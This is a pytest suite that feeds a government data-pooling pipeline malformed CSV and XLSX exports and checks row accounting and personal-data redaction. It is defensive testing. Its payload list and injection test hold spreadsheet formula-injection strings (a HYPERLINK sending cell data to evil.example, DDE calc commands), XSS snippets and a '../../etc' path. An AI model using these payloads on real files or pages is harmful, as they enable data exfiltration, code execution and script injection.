"""The bad-input corpus: every case ends in a run that accounts for every row, or one clear error
line.

Each case breaks a copy of a small generated snapshot and runs the real `datapool run`.
"""

from __future__ import annotations

import codecs
import io
import json
import re
import resource
import shutil
import sqlite3
from pathlib import Path

import pytest
from cliutil import assert_one_clear_line, invoke

pytestmark = [pytest.mark.prefect, pytest.mark.slow]
MONTH = "2025-03"


@pytest.fixture(scope="session")
def tiny(tmp_path_factory) -> Path:
    from datapool.samples import generate

    root = tmp_path_factory.mktemp("tiny")
    generate(root, 150, [MONTH], seed=3)
    shutil.rmtree(root / "truth")
    return root


def _csv(root: Path, name: str) -> Path:
    return root / MONTH / f"{name}.csv"


def _edit_text(path: Path, fn, encoding: str = "utf-8") -> None:
    text = path.read_bytes().decode("utf-8-sig" if encoding == "utf-8" else encoding)
    path.write_bytes(fn(text).encode(encoding))


def _append_line(path: Path, line: str, encoding: str = "utf-8") -> None:
    _edit_text(path, lambda t: t + line + "\r\n", encoding)


def _row_with(header: str, path: Path, **values: str) -> str:
    import csv
    import io

    text = (
        path.read_bytes().decode("utf-8-sig")
        if "social" not in path.name
        else path.read_bytes().decode("gb18030")
    )
    rows = list(csv.reader(io.StringIO(text)))
    row = dict(zip(rows[0], rows[1], strict=True))
    row.update(values)
    buf = io.StringIO()
    csv.writer(buf, lineterminator="").writerow([row[h] for h in rows[0]])
    return buf.getvalue()


def _truncate(root):
    p = _csv(root, "market_supervision")
    p.write_bytes(p.read_bytes()[:-37])


def _gb_invalid(root):
    p = _csv(root, "social_insurance")
    data = p.read_bytes()
    p.write_bytes(data[:400] + b"\x81\x20" + data[400:])


def _utf8_invalid(root):
    p = _csv(root, "tax_registry")
    data = p.read_bytes()
    p.write_bytes(data[:500] + b"\xc3\x28" + data[500:])


def _ragged(root):
    p = _csv(root, "tax_registry")
    _append_line(p, _row_with("", p) + ",extra,fields")


def _quoted_newline(root):
    p = _csv(root, "market_supervision")
    _append_line(
        p,
        _row_with(
            "",
            p,
            住所="梅林镇红旗大道8号\n二楼, 东侧",
            统一社会信用代码="",
            企业名称="赣县新开业商行",
        ),
    )


def _crlf_bom(root):
    p = _csv(root, "tax_registry")
    p.write_bytes(b"\xef\xbb\xbf" + p.read_bytes())


def _empty_file(root):
    _csv(root, "market_supervision").write_bytes(b"")


def _header_only(root):
    p = _csv(root, "tax_registry")
    p.write_bytes(p.read_bytes().split(b"\r\n")[0] + b"\r\n")


def _binary(root):
    _csv(root, "social_insurance").write_bytes(bytes(range(256)) * 20)


def _dup_header(root):
    _edit_text(_csv(root, "tax_registry"), lambda t: t.replace("主管税务所", "纳税人名称", 1))


def _missing_column(root):
    p = _csv(root, "social_insurance")
    _edit_text(p, lambda t: t.replace("参保人数", "人数", 1), "gb18030")


def _float_ids(root):
    p = _csv(root, "tax_registry")
    _append_line(p, _row_with("", p, 纳税人识别号="9.13607041234568E+17"))


def _bad_date(root):
    p = _csv(root, "tax_registry")
    _append_line(p, _row_with("", p, 登记日期="2021-13-45"))


def _text_headcount(root):
    p = _csv(root, "tax_registry")
    _append_line(p, _row_with("", p, 从业人数="二十"))


def _negative_headcount(root):
    p = _csv(root, "social_insurance")
    _append_line(p, _row_with("", p, 参保人数="-4", 单位编号="X999"), "gb18030")


def _long_field(root):
    p = _csv(root, "tax_registry")
    _append_line(p, _row_with("", p, 生产经营地址="很长" * 50_000))


def _no_members(root):
    (root / "members.sqlite").unlink()


def _members_no_table(root):
    con = sqlite3.connect(root / "members.sqlite")
    con.execute("DROP TABLE union_member")
    con.commit()
    con.close()


def _grids_not_geojson(root):
    (root / "grids.geojson").write_text("<kml>not json</kml>", encoding="utf-8")


def _grids_wrong_json(root):
    (root / "grids.geojson").write_text(
        '{"type": "Point", "coordinates": [1, 2]}', encoding="utf-8"
    )


def _grids_missing(root):
    (root / "grids.geojson").unlink()


def _xlsx_garbage(root):
    (root / MONTH / "civil_affairs.xlsx").write_bytes(b"PK\x03\x04 this is not a workbook")


def _civil_missing(root):
    (root / MONTH / "civil_affairs.xlsx").unlink()


def _all_missing(root):
    for f in (root / MONTH).iterdir():
        f.unlink()


def _utf16(root):
    p = _csv(root, "tax_registry")
    p.write_bytes(p.read_bytes().decode("utf-8").encode("utf-16"))


def _garbled(root):
    p = _csv(root, "tax_registry")
    p.write_bytes(
        p.read_bytes().decode("utf-8").encode("utf-8").decode("gb18030", "replace").encode()
    )


def _empty_rows(root):
    p = _csv(root, "tax_registry")
    _append_line(p, "," * 8)
    _append_line(p, " , , ,,,,,,")


def _extra_columns_with_phone(root):
    _edit_text(
        _csv(root, "tax_registry"),
        lambda t: t.replace("\r\n", ",备注\r\n", 1).replace(
            "梅林税务所\r\n", "梅林税务所,联系人13912345678\r\n"
        ),
    )


def _reordered(root):
    import csv
    import io

    p = _csv(root, "tax_registry")
    rows = list(csv.reader(io.StringIO(p.read_text(encoding="utf-8"))))
    buf = io.StringIO()
    csv.writer(buf, lineterminator="\r\n").writerows([list(reversed(r)) for r in rows])
    p.write_text(buf.getvalue(), encoding="utf-8")


def _fullwidth_header(root):
    p = _csv(root, "market_supervision")
    _edit_text(p, lambda t: t.replace("注册资本(万元)", " 注册资本（万元） ", 1), "utf-8-sig")


def _nul_bytes(root):
    p = _csv(root, "tax_registry")
    data = p.read_bytes()
    at = data.index(b",", data.index(b"\r\n", 300)) + 1  # inside a field of a data row
    p.write_bytes(data[:at] + b"\x00" + data[at:])


def _nul_at_line_end(root):
    p = _csv(root, "tax_registry")
    data = p.read_bytes()
    at = data.index(b"\r\n", 300) + 1  # between CR and LF: a lone CR, then a line of one NUL
    p.write_bytes(data[:at] + b"\x00" + data[at:])


def _excel_numeric_id(root):
    from openpyxl import load_workbook

    path = root / MONTH / "civil_affairs.xlsx"
    wb = load_workbook(path)
    wb.worksheets[0]["A2"] = 513607211234567000
    wb.save(path)


# --- a stray quote must not swallow the rest of the file -----------------------------------------


def _quote_at(path: Path, line_no: int, column: int, encoding: str = "utf-8") -> None:
    """Put an opening quote before field ``column`` of line ``line_no`` (0 = header)."""

    def edit(text: str) -> str:
        lines = text.split("\r\n")
        fields = lines[line_no].split(",")
        fields[column] = '"' + fields[column]
        lines[line_no] = ",".join(fields)
        return "\r\n".join(lines)

    _edit_text(path, edit, encoding)


def _stray_quote_market(root):
    _quote_at(_csv(root, "market_supervision"), 10, 2, "utf-8-sig")


def _stray_quote_first_row(root):
    _quote_at(_csv(root, "tax_registry"), 1, 1)


def _stray_quote_last_row(root):
    p = _csv(root, "tax_registry")
    n = len(p.read_bytes().rstrip().split(b"\r\n")) - 1
    _quote_at(p, n, 3)


def _stray_quote_gb18030(root):
    _quote_at(_csv(root, "social_insurance"), 5, 0, "gb18030")


def _two_stray_quotes(root):
    p = _csv(root, "tax_registry")
    _quote_at(p, 3, 1)
    _quote_at(p, 6, 3)


def _quote_in_header(root):
    _quote_at(_csv(root, "tax_registry"), 0, 1)


def _quoted_field_too_long(root):
    p = _csv(root, "market_supervision")
    _append_line(p, _row_with("", p, 住所="\n".join(f"第{i}层" for i in range(30))), "utf-8-sig")


def _stray_quote_and_real_newline(root):
    _quoted_newline(root)
    _quote_at(_csv(root, "market_supervision"), 4, 8, "utf-8-sig")


def _lone_carriage_returns(root):
    p = _csv(root, "tax_registry")
    p.write_bytes(p.read_bytes().replace(b"\r\n", b"\r"))


def _mixed_line_ends(root):
    p = _csv(root, "tax_registry")
    data = p.read_bytes().split(b"\r\n")
    p.write_bytes(b"".join(line + (b"\n" if i % 2 else b"\r\n") for i, line in enumerate(data)))


# --- workbooks -----------------------------------------------------------------------------------


def _civil(root) -> Path:
    return root / MONTH / "civil_affairs.xlsx"


def _rebuild_xlsx(root, sheets: dict[str, list[list[object]]]) -> None:
    """Rewrite the civil-affairs workbook with the given sheets (openpyxl writes formulas with no
    cached value, as a program that does not calculate would)."""
    from openpyxl import Workbook

    wb = Workbook()
    wb.remove(wb.active)
    for title, rows in sheets.items():
        ws = wb.create_sheet(title)
        for row in rows:
            ws.append(row)
    wb.save(_civil(root))


def _civil_rows(root) -> list[list[object]]:
    from openpyxl import load_workbook

    wb = load_workbook(_civil(root), read_only=True)
    rows = [list(r) for r in wb.worksheets[0].iter_rows(values_only=True)]
    wb.close()
    return rows


def _second_sheet_same_header(root):
    rows = _civil_rows(root)
    extra = [[f"51360721MA35Y{i:04d}X", f"赣县第{i}协会", *r[2:]] for i, r in enumerate(rows[1:6])]
    _rebuild_xlsx(root, {"社会组织": rows, "续表": [rows[0], *extra]})


def _second_sheet_other_header(root):
    rows = _civil_rows(root)
    _rebuild_xlsx(root, {"社会组织": rows, "其他": [["统一社会信用代码", "备注"], ["x", "y"]]})


def _lookup_sheet(root):
    rows = _civil_rows(root)
    _rebuild_xlsx(root, {"社会组织": rows, "代码表": [["代码", "含义"], ["1", "社会团体"]]})


def _empty_second_sheet(root):
    _rebuild_xlsx(root, {"社会组织": _civil_rows(root), "Sheet2": []})


def _formula_without_cache(root):
    rows = _civil_rows(root)
    rows[3][8] = "=SUM(1,2)"  # headcount, as a formula nobody calculated
    _rebuild_xlsx(root, {"社会组织": rows})


def _formula_name_without_cache(root):
    rows = _civil_rows(root)
    rows[2][1] = '=CONCATENATE("赣县","协会")'
    _rebuild_xlsx(root, {"社会组织": rows})


def _dimension_bomb(root):
    """A few rows in a sheet that declares 1,048,576 rows x 16,384 columns."""
    import zipfile

    path = _civil(root)
    with zipfile.ZipFile(path) as z:
        items = {n: z.read(n) for n in z.namelist()}
    name = "xl/worksheets/sheet1.xml"
    xml = items[name].decode()
    start = xml.index("<dimension")
    items[name] = (
        xml[:start] + '<dimension ref="A1:XFD1048576"/>' + xml[xml.index("/>", start) + 2 :]
    ).encode()
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for n, data in items.items():
            z.writestr(n, data)


def _cell_far_right(root):
    from openpyxl import load_workbook

    wb = load_workbook(_civil(root))
    wb.worksheets[0]["XFD5"] = "张三 13912345678"
    wb.save(_civil(root))


def _xlsx_duplicate_rows(root):
    rows = _civil_rows(root)
    _rebuild_xlsx(root, {"社会组织": rows + rows[1:4]})


def _xlsx_is_csv(root):
    _civil(root).write_bytes(_csv(root, "tax_registry").read_bytes())


# --- duplicates, placeholders, shapes ------------------------------------------------------------


def _export_twice(root):
    p = _csv(root, "tax_registry")
    data = p.read_bytes()
    p.write_bytes(data + data.split(b"\r\n", 1)[1])


def _export_twice_with_header(root):
    p = _csv(root, "tax_registry")
    p.write_bytes(p.read_bytes() * 2)


def _placeholder_uscc(root):
    p = _csv(root, "tax_registry")
    rows = [
        _row_with("", p, 纳税人识别号="91360721000000000X", 纳税人名称=f"赣县个体户{i}号")
        for i in range(1500)
    ]
    _edit_text(p, lambda t: t + "\r\n".join(rows) + "\r\n")


def _ragged_with_personal(root):
    p = _csv(root, "tax_registry")
    row = _row_with("", p, 法定代表人="欧阳修远")
    _append_line(p, row.replace("欧阳修远", "欧阳修远,13912345678", 1))


def _tab_separated(root):
    _edit_text(_csv(root, "tax_registry"), lambda t: t.replace(",", "\t"))


def _semicolons(root):
    _edit_text(_csv(root, "tax_registry"), lambda t: t.replace(",", ";"))


def _many_empty_columns(root):
    _edit_text(
        _csv(root, "tax_registry"),
        lambda t: "\r\n".join(line + "," * 5000 if line else line for line in t.split("\r\n")),
    )


def _export_is_a_folder(root):
    _csv(root, "tax_registry").unlink()
    _csv(root, "tax_registry").mkdir()


def _only_commas_and_spaces(root):
    p = _csv(root, "market_supervision")
    _edit_text(p, lambda t: t + ",".join([" ", "\t"] * 6) + "\r\n", "utf-8-sig")


CASES = {
    # name: (mutation, extra CLI args, expectation: "ok" + quarantine words | "error" + words)
    "truncated file": (_truncate, [], ("ok", "ragged row")),
    "invalid GB18030 bytes": (_gb_invalid, [], ("ok", "invalid bytes")),
    "invalid UTF-8 bytes": (_utf8_invalid, [], ("ok", "invalid bytes")),
    "ragged row": (_ragged, [], ("ok", "ragged row")),
    "quoted newline": (_quoted_newline, [], ("ok", None), {"market_supervision": 1}),
    "CRLF with BOM": (_crlf_bom, [], ("ok", None)),
    "empty file": (
        _empty_file,
        [],
        ("error", "market_supervision.csv", "is empty", "--accept-source market_supervision"),
    ),
    "empty file, accepted": (_empty_file, ["--accept-source", "market_supervision"], ("ok", None)),
    "header-only file": (
        _header_only,
        [],
        ("error", "tax_registry.csv", "is empty", "--carry-forward tax_registry"),
    ),
    "header-only file, accepted": (_header_only, ["--accept-source", "all"], ("ok", None)),
    "binary garbage": (_binary, [], ("error", "social_insurance.csv")),
    "duplicate header": (_dup_header, [], ("error", "tax_registry.csv", "more than once")),
    "missing header": (_missing_column, [], ("error", "social_insurance.csv", "参保人数")),
    "identifier as float": (_float_ids, [], ("ok", "turned into a number")),
    "impossible date": (_bad_date, [], ("ok", "not a valid date")),
    "non-numeric headcount": (_text_headcount, [], ("ok", "not a whole number")),
    "negative headcount": (_negative_headcount, [], ("ok", "negative count")),
    "absurdly long field": (_long_field, [], ("ok", "longer than")),
    "member db missing": (_no_members, [], ("error", "members.sqlite", "does not exist")),
    "member db lacks a table": (_members_no_table, [], ("error", "union_member")),
    "grids not GeoJSON": (_grids_not_geojson, [], ("error", "grids.geojson", "not GeoJSON")),
    "grids not a FeatureCollection": (_grids_wrong_json, [], ("error", "FeatureCollection")),
    "grids missing": (_grids_missing, [], ("error", "grids.geojson", "does not exist")),
    "xlsx garbage": (_xlsx_garbage, [], ("error", "civil_affairs.xlsx", "not a readable")),
    "agency sent nothing": (
        _civil_missing,
        [],
        ("error", "civil_affairs (民政) sent no export", "--accept-source civil_affairs"),
    ),
    "agency sent nothing, accepted": (
        _civil_missing,
        ["--accept-source", "civil_affairs"],
        ("ok", None),
    ),
    "no export at all": (_all_missing, [], ("error", "no agency export")),
    "UTF-16 file": (_utf16, [], ("ok", None)),
    "UTF-8 garbled by re-saving": (
        _garbled,
        [],
        ("error", "tax_registry.csv", "encoding problem", "detected encoding", "headers found"),
    ),
    "empty rows": (_empty_rows, [], ("ok", "empty row")),
    "extra columns with a phone": (_extra_columns_with_phone, [], ("ok", None)),
    "columns reordered": (_reordered, [], ("ok", None)),
    "full-width header": (_fullwidth_header, [], ("ok", None)),
    "NUL byte": (_nul_bytes, [], ("ok", "invalid bytes")),
    "NUL byte between CR and LF": (_nul_at_line_end, [], ("ok", "ragged row: 1 fields")),
    "xlsx numeric identifier": (_excel_numeric_id, [], ("ok", "precision lost")),
    "warehouse URL garbage": (
        lambda r: None,
        ["--warehouse-url", "nonsense://"],
        ("error", "warehouse"),
    ),
    "member URL garbage": (
        lambda r: None,
        ["--members-url", "::not a url::"],
        ("error", "member database"),
    ),
    "snapshot folder missing": (
        lambda r: None,
        ["--snapshot", "2024-01"],
        ("error", "2024-01", "does not exist"),
    ),
    "stray quote mid-file": (_stray_quote_market, [], ("ok", "quote is not closed")),
    "stray quote in the first row": (_stray_quote_first_row, [], ("ok", "quote is not closed")),
    "stray quote in the last row": (_stray_quote_last_row, [], ("ok", "quote is not closed")),
    "stray quote in GB18030": (_stray_quote_gb18030, [], ("ok", "quote is not closed")),
    "two stray quotes": (_two_stray_quotes, [], ("ok", "ragged row")),
    "stray quote in the header": (_quote_in_header, [], ("error", "tax_registry.csv", "header")),
    "quoted field of 30 lines": (_quoted_field_too_long, [], ("ok", "ragged row")),
    "stray quote and a real line break": (
        _stray_quote_and_real_newline,
        [],
        ("ok", "quote is not closed"),
    ),
    "lone carriage returns": (_lone_carriage_returns, [], ("ok", None)),
    "mixed line ends": (_mixed_line_ends, [], ("ok", None)),
    "second sheet, same header": (_second_sheet_same_header, [], ("ok", None)),
    "second sheet, other header": (
        _second_sheet_other_header,
        [],
        ("error", "civil_affairs.xlsx", "sheet '其他'"),
    ),
    "lookup sheet": (_lookup_sheet, [], ("ok", None)),
    "empty second sheet": (_empty_second_sheet, [], ("ok", None)),
    "formula without cached value": (_formula_without_cache, [], ("ok", "formula without")),
    "formula name without cached value": (
        _formula_name_without_cache,
        [],
        ("ok", "formula without"),
    ),
    "xlsx declares 1M x 16k": (_dimension_bomb, [], ("ok", None)),
    "xlsx cell far right": (_cell_far_right, [], ("ok", "ragged row")),
    "xlsx duplicate rows": (_xlsx_duplicate_rows, [], ("ok", "exact duplicate")),
    "xlsx that is a CSV": (_xlsx_is_csv, [], ("error", "civil_affairs.xlsx", "not a readable")),
    "export sent twice": (_export_twice, [], ("ok", "exact duplicate of row 1")),
    "export sent twice with header": (_export_twice_with_header, [], ("ok", "exact duplicate")),
    "placeholder USCC on 1,500 rows": (_placeholder_uscc, [], ("ok", None)),
    "ragged row with a person": (_ragged_with_personal, [], ("ok", "ragged row")),
    "tab separated": (_tab_separated, [], ("error", "tax_registry.csv", "required column")),
    "semicolon separated": (_semicolons, [], ("error", "tax_registry.csv", "required column")),
    "5,000 empty columns": (_many_empty_columns, [], ("ok", None)),
    "export is a folder": (_export_is_a_folder, [], ("error", "tax_registry.csv")),
    "commas and spaces only": (_only_commas_and_spaces, [], ("ok", "empty row")),
    "snapshot is a path": (lambda r: None, ["--snapshot", "../../etc"], ("error", "YYYY-MM")),
}


def _physical_rows(path: Path) -> int:
    """The data records of an export, counted without the reader: non-blank lines of a CSV
    (less the header), non-empty rows of every workbook sheet with the first sheet's header."""
    if path.suffix == ".xlsx":
        from openpyxl import load_workbook

        wb = load_workbook(path, read_only=True)
        header, n = None, 0
        for ws in wb.worksheets:
            ws.reset_dimensions()
            rows = [
                r for r in ws.iter_rows(values_only=True) if any(v not in (None, "") for v in r)
            ]
            if rows and (header is None or rows[0] == header):
                header, n = rows[0], n + len(rows) - 1
        wb.close()
        return n
    data = path.read_bytes()
    wide = data.startswith((codecs.BOM_UTF16_LE, codecs.BOM_UTF16_BE))
    for encoding in ("utf-16",) if wide else ("utf-8-sig", "gb18030"):
        try:
            text = data.decode(encoding)
            break
        except UnicodeDecodeError:
            continue
    else:
        text = data.decode("utf-8", errors="replace")
    lines = sum(1 for line in io.StringIO(text, newline="").readlines() if line.strip())
    return max(0, lines - 1)  # the header is not a record


_BASELINE_KB: list[int] = []


def _peak_growth_mb() -> float:
    """How far the process's peak memory rose above its peak before the first case."""
    peak = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    if not _BASELINE_KB:
        _BASELINE_KB.append(peak)
    return (peak - _BASELINE_KB[0]) / 1024


def _run(root: Path, out: Path, capsys, *extra: str) -> tuple[int, str]:
    args = ["run", "--input", str(root), "--out", str(out), "--quiet"]
    if "--snapshot" not in extra:
        args += ["--snapshot", MONTH]
    code, _stdout, err = invoke(capsys, *args, *extra)
    return code, err


@pytest.mark.parametrize("case", list(CASES))
def test_bad_input(case, tiny, tmp_path, capsys, prefect_harness):
    mutate, extra, expect, *more = CASES[case]
    continued = more[0] if more else {}
    _peak_growth_mb()
    root = tmp_path / "in"
    shutil.copytree(tiny, root)
    mutate(root)
    out = tmp_path / "out"
    code, err = _run(root, out, capsys, *extra)
    assert _peak_growth_mb() < 1024, "a hostile file took more than 1 GB"
    if expect[0] == "error":
        assert_one_clear_line(code, err, *expect[1:])
        return
    assert code == 0, err
    assert "Traceback" not in err
    con = sqlite3.connect(out / "warehouse.sqlite")
    rows_in, acc, quar, counts = con.execute(
        "SELECT rows_in, rows_accepted, rows_quarantined, counts FROM pipeline_run "
        "WHERE status = 'success'"
    ).fetchone()
    assert rows_in == acc + quar
    assert con.execute("SELECT count(*) FROM source_record").fetchone()[0] == acc
    # every physical record of every file is accepted or quarantined
    for source, f in json.loads(counts)["files"].items():
        physical = _physical_rows(Path(f["file"])) - continued.get(source, 0)
        assert f["rows_in"] == physical == f["accepted"] + f["quarantined"], (source, f)
        got = con.execute(
            "SELECT (SELECT count(*) FROM source_record WHERE source = ?)"
            " + (SELECT count(*) FROM quarantine WHERE source = ?)",
            (source, source),
        ).fetchone()[0]
        assert got == physical, source
    reasons = [r[0] for r in con.execute("SELECT reason FROM quarantine")]
    raws = " ".join(r[0] or "" for r in con.execute("SELECT raw FROM quarantine"))
    extras = " ".join(r[0] or "" for r in con.execute("SELECT extra FROM source_record"))
    con.close()
    if expect[1]:
        assert any(expect[1] in r for r in reasons), reasons
    assert "13912345678" not in extras + raws
    assert "欧阳修远" not in extras + raws


def test_the_corpus_is_large_enough():
    assert len(CASES) >= 50


# --- personal values planted in extra columns reach no output ------------------------------------

PERSONAL_HEADERS = [
    "联系人", "联系方式", "办税人", "办税人电话", "财务负责人", "财务电话", "Contact", "Tel",
    "Phone", "Mobile", "E-mail", "手机号码", "固定电话", "传真", "身份证号", "证件号码", "经营者",
    "负责人姓名", "股东", "开户人", "家庭住址", "备注", "说明", "其他信息",
]  # fmt: skip


def _planted(i: int, row: int) -> str:
    kinds = [
        f"司马{'懿昭师炎'[i % 4]}{row:03d}号",
        f"139{i:02d}{row:06d}",
        f"+86 139 {i:02d}{row // 100:02d} {row % 100:02d}{i:02d}",
        f"0797-{i:02d}{row:05d}",
        f"360721198001{i:02d}{row:03d}X",
        f"3607218001{i:02d}{row:03d}",
        f"p{i}x{row}@example.com",
    ]
    return kinds[i % len(kinds)]


def _scan_outputs(out: Path, url: str) -> str:
    """Every text of every output: warehouse rows, and every file written (xlsx as its XML)."""
    import zipfile

    blobs = []
    con = sqlite3.connect(url)
    for (table,) in con.execute("SELECT name FROM sqlite_master WHERE type = 'table'"):
        blobs += [" ".join(map(str, r)) for r in con.execute(f'SELECT * FROM "{table}"')]
    con.close()
    for path in out.rglob("*"):
        if path.suffix == ".xlsx":
            with zipfile.ZipFile(path) as z:
                blobs += [z.read(n).decode("utf-8", "ignore") for n in z.namelist()]
        elif path.is_file() and path.suffix != ".sqlite":
            blobs.append(path.read_bytes().decode("utf-8", "ignore"))
    return "\n".join(blobs)


def test_personal_values_in_extra_columns_reach_no_output(tiny, tmp_path, capsys, prefect_harness):
    root = tmp_path / "in"
    shutil.copytree(tiny, root)
    p = _csv(root, "tax_registry")
    lines = p.read_bytes().decode("utf-8").split("\r\n")
    planted: set[str] = set()
    for n, line in enumerate(lines):
        if not line:
            continue
        if n == 0:
            extra = [*PERSONAL_HEADERS, "经营范围"]
        else:
            extra = [_planted(i, n) for i in range(len(PERSONAL_HEADERS))] + [
                f"建材 联系139{n:08d}"
            ]
            planted |= set(extra[:-1]) | {f"139{n:08d}"}
        lines[n] = line + "," + ",".join(extra)
    # a ragged row and a mis-quoted row carrying the same kinds of values
    lines.insert(-1, lines[3] + ",司马光000号")
    lines.insert(-1, lines[4].replace(",", ',"', 1))
    planted.add("司马光000号")
    p.write_bytes("\r\n".join(lines).encode("utf-8"))
    out = tmp_path / "out"
    code, err = _run(root, out, capsys)
    assert code == 0, err
    text = _scan_outputs(out, str(out / "warehouse.sqlite")) + err
    leaked = sorted(v for v in planted if v in text)
    assert not leaked, leaked[:10]
    digits = {re.sub(r"\D", "", v) for v in planted if re.sub(r"\D", "", v)}
    assert not sorted(d for d in digits if len(d) >= 7 and d in text)[:10]
    con = sqlite3.connect(out / "warehouse.sqlite")
    extra = json.loads(
        con.execute("SELECT extra FROM source_record WHERE source = 'tax_registry'").fetchone()[0]
    )
    con.close()
    assert set(extra) == {"主管税务所", "经营范围"} and extra["经营范围"] == "建材 联系<number>"


# --- nothing from input becomes a formula, a link or markup --------------------------------------

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "<script>alert('x')</script>",
    "<img src=x onerror=alert(1)>",
    "http://evil.example/phish",
    "[点击](javascript:alert(1))",
]


def _rewrite_csv(path: Path, encoding: str, fn) -> None:
    import csv

    text = path.read_bytes().decode(encoding)
    rows = list(csv.reader(io.StringIO(text)))
    header = [h.lstrip("\ufeff") for h in rows[0]]
    for k, row in enumerate(rows[1:]):
        fn(dict(zip(header, row, strict=True)), row, header, k)
    buf = io.StringIO()
    csv.writer(buf, lineterminator="\r\n").writerows(rows)
    path.write_bytes(buf.getvalue().encode(encoding))


def test_agency_text_is_inert_in_every_output(tiny, tmp_path, capsys, prefect_harness):
    import zipfile

    root = tmp_path / "in"
    shutil.copytree(tiny, root)

    def attack(values, row, header, k):
        for col in ("企业名称", "纳税人名称", "单位名称"):
            if col in values:
                row[header.index(col)] = PAYLOADS[k % len(PAYLOADS)] + values[col]
        for col in ("住所", "生产经营地址", "单位地址"):
            if col in values:
                row[header.index(col)] = values[col] + PAYLOADS[(k + 3) % len(PAYLOADS)]
        if "纳税人状态" in values and k % 7 == 0:
            row[header.index("纳税人状态")] = "<script>alert('gx')</script>"

    _rewrite_csv(_csv(root, "market_supervision"), "utf-8-sig", attack)
    _rewrite_csv(_csv(root, "tax_registry"), "utf-8", attack)
    _rewrite_csv(_csv(root, "social_insurance"), "gb18030", attack)
    grids = json.loads((root / "grids.geojson").read_text(encoding="utf-8"))
    for f in grids["features"]:
        f["properties"]["grid_name"] = "<svg onload=alert(1)>" + f["properties"]["grid_name"]
    (root / "grids.geojson").write_text(json.dumps(grids, ensure_ascii=False), encoding="utf-8")
    out = tmp_path / "out"
    code, err = _run(root, out, capsys)
    assert code == 0, err
    sheets = list((out / MONTH / "visit_sheets").glob("*.xlsx"))
    assert sheets
    texts = ""
    for path in sheets:
        with zipfile.ZipFile(path) as z:
            for name in z.namelist():
                xml = z.read(name).decode("utf-8")
                assert "hyperlink" not in name.lower(), (path.name, name)
                if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                    assert "<f>" not in xml and "<f " not in xml, (path.name, name)
                    assert "<hyperlink" not in xml, (path.name, name)
                texts += xml
    assert "HYPERLINK(&quot;http://evil.example" in texts or 'HYPERLINK("http://evil' in texts
    html_files = [p for p in out.rglob("*.html")]
    heatmap = (out / MONTH / "heatmap.html").read_text(encoding="utf-8")
    # the map's own three scripts (its grids' and joint-union groups' data as JSON, its click
    # handler) and no other
    assert re.findall(r"<script[^>]*>", heatmap) == [
        '<script type="application/json" id="grid-data">',
        '<script type="application/json" id="group-data">',
        "<script>",
    ]
    assert "<script>alert" not in heatmap and "<img" not in heatmap and "<svg onload" not in heatmap
    for element in ("grid-data", "group-data"):
        data = heatmap.split(f'id="{element}">', 1)[1].split("</script>", 1)[0]
        assert "<" not in data and ">" not in data  # agency text in JSON cannot close the element
    assert "&lt;script&gt;" in heatmap or "&lt;img" in heatmap
    routes = [p for p in html_files if "route_pages" in p.parts]  # the phone pages
    assert routes
    for path in routes:
        page = path.read_text(encoding="utf-8")
        assert re.findall(r"<script[^>]*>", page) == ["<script>", "<script>"], path
        assert "<script>alert" not in page and "<svg onload" not in page and "<img" not in page
    docs = [p for p in html_files if "data_docs" in p.parts]
    assert docs
    for path in docs:
        page = path.read_text(encoding="utf-8")
        for raw in ("<script>alert", "<img src=x", "<svg onload"):
            assert raw not in page, (path, raw)


def test_workbook_declaring_a_huge_sheet_reads_in_little_memory(tmp_path):
    """A few KB declaring 1,048,576 x 16,384 cells, with one far cell: read in a child process,
    whose own peak memory is measured."""
    import subprocess
    import sys

    from openpyxl import Workbook

    path = tmp_path / "civil_affairs.xlsx"
    wb = Workbook()
    ws = wb.active
    ws.append(["统一社会信用代码", "社会组织名称", "登记状态", "住所"])
    ws.append(["51360721MA35X0XX0B", "赣县青年志愿者协会", "正常", "梅林镇"])
    ws["XFD1048576"] = "far away"
    wb.save(path)
    assert path.stat().st_size < 50_000
    # the child's peak is its own VmHWM: getrusage's ru_maxrss survives exec, so a child forked
    # from a large pytest process would report the parent's size
    code = (
        "import re; from pathlib import Path;"
        "from datapool.connectors.reader import read_export;"
        "from datapool.connectors.specs import CIVIL;"
        f"r = read_export(Path({str(path)!r}), CIVIL, 'k' * 16);"
        "hwm = re.search(r'VmHWM:\\s+(\\d+) kB', Path('/proc/self/status').read_text());"
        "print(r.records.height, r.quarantine.height, r.physical_rows, int(hwm[1]) // 1024)"
    )
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=600)
    assert done.returncode == 0, done.stderr
    accepted, quarantined, physical, peak_mb = map(int, done.stdout.split())
    assert (accepted, quarantined, physical) == (1, 1, 2)
    assert peak_mb < 1024


def test_an_unexpected_error_leaves_no_data_in_its_message_or_log(
    tiny, tmp_path, capsys, prefect_harness, monkeypatch
):
    secret = "司马光 13912345678"

    def boom(*_args, **_kwargs):
        raise RuntimeError(f"cannot handle {secret}")

    monkeypatch.setattr("datapool.stages.cover", boom)
    root = tmp_path / "in"
    shutil.copytree(tiny, root)
    out = tmp_path / "out"
    code, err = _run(root, out, capsys)
    assert code == 1 and "RuntimeError" in err and "withheld" in err
    assert "司马光" not in err and "13912345678" not in err, err
    con = sqlite3.connect(out / "warehouse.sqlite")
    (message,) = con.execute("SELECT message FROM pipeline_run WHERE status = 'failed'").fetchone()
    con.close()
    assert "RuntimeError" in message and "13912345678" not in message
